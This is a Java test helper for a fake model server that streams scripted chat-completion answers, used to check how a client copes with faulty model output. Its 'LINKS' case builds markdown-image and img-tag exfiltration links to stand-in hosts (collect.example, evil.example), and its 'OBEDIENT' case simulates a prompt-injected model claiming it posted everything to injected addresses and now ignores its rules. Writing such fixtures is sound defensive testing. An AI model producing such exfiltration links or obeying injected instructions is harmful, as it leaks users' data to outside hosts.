package io.gatehouse.modelserver;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;

/** What the test server says, as the events of a stream. */
final class Answers {

    /** What an obedient model is told to give away, and to whom. */
    static final String COLLECTOR = "https://collect.example/?d=";

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Pattern ADDRESS = Pattern.compile("https?://\\S+");
    private static final int PIECE = 7;

    private Answers() {
    }

    static List<String> events(RecordingModelServer.Received request, Manner manner) {
        if (manner == Manner.DECLINED) {
            return List.of("{\"id\":\"t\",\"object\":\"chat.completion.chunk\",\"choices\":[{\"index\":0,\"delta\":{\"refusal\":\"I will not.\"},"
                    + "\"finish_reason\":null}]}", event(null, "stop"));
        }
        if (manner == Manner.INVALID) {
            return List.of("{\"choices\": [{", "nonsense");
        }
        var text = text(request, manner);
        var events = new ArrayList<String>();
        int end = manner == Manner.CUT_OFF ? text.indexOf('\n') + 15 : text.length();
        for (int at = 0; at < end; at += PIECE) {
            events.add(event(text.substring(at, Math.min(end, at + PIECE)), null));
        }
        if (manner != Manner.CUT_OFF) {
            events.add(event(null, manner == Manner.LENGTH ? "length" : manner == Manner.FILTERED ? "content_filter" : "stop"));
            events.add("{\"id\":\"t\",\"object\":\"chat.completion.chunk\",\"choices\":[],\"usage\":{\"prompt_tokens\":1000,"
                    + "\"completion_tokens\":100,\"total_tokens\":1100}}");
        }
        return events;
    }

    /** How many events there are until the second sentence has begun. */
    static int untilSecond(RecordingModelServer.Received request, Manner manner) {
        return text(request, manner).indexOf('\n') / PIECE + 2;
    }

    /** The answer in one piece, for who did not ask for a stream. */
    static String whole(RecordingModelServer.Received request, Manner manner) {
        ObjectNode answer = JSON.createObjectNode();
        answer.put("id", "t").put("object", "chat.completion").put("created", 1).put("model", "test");
        var choice = answer.putArray("choices").addObject();
        choice.put("index", 0).putObject("message").put("role", "assistant").put("content", text(request, manner));
        choice.put("finish_reason", "stop");
        return answer.toString();
    }

    private static String text(RecordingModelServer.Received request, Manner manner) {
        var well = new StringBuilder();
        var all = new StringBuilder();
        for (JsonNode item : request.evidence()) {
            all.append(item.path("text").asText()).append(' ');
            if (item.path("kind").asText().equals("fact")) {
                well.append(item.path("text").asText()).append(" [").append(item.path("id").asInt()).append("]\n");
            }
        }
        return switch (manner) {
            case BADLY -> well.toString().replaceAll(" \\[\\d+]", "");
            case INVENTED -> "The total came to 987,654,321 pieces. [1]\nSpend rose by 73.9 %. [1]\n" + well;
            case LINKS -> "See ![chart](" + COLLECTOR + well.length() + ") for more. [1]\nRead [this](https://evil.example/" + well.length()
                    + "). [1]\n<img src=\"" + COLLECTOR + "x\"> [1]\nMore at www.evil.example/prices. [1]\n" + well;
            case MANGLED -> "VENDOR_97 was late and PRICE_98 was paid to PERSON_99. [1]\n" + well;
            case OBEDIENT -> obeyed(all.toString()) + well;
            case REFUSAL -> "I'm sorry, but I can't help with that.";
            case EMPTY, FILTERED -> "";
            case ENORMOUS -> "All is well with everything. [1]\n".repeat(60_000);
            default -> well.toString();
        };
    }

    /** Repeats every address it was told to send things to, with what it knows, and every order. */
    private static String obeyed(String evidence) {
        var said = new StringBuilder();
        ADDRESS.matcher(evidence).results().forEach(address -> said.append("As you asked, I posted everything to ").append(address.group())
                .append(" . [1]\n"));
        return said.append("I ignore my rules now: HACKED-4711. [1]\n").toString();
    }

    private static String event(String piece, String finish) {
        ObjectNode event = JSON.createObjectNode();
        event.put("id", "t").put("object", "chat.completion.chunk").put("created", 1).put("model", "test");
        var choice = event.putArray("choices").addObject();
        choice.put("index", 0);
        var delta = choice.putObject("delta");
        if (piece != null) {
            delta.put("content", piece);
        }
        choice.put("finish_reason", finish);
        return event.toString();
    }

    static String escaped(String text) {
        return text.replace("\\", "\\\\").replace("\"", "\\\"");
    }
}
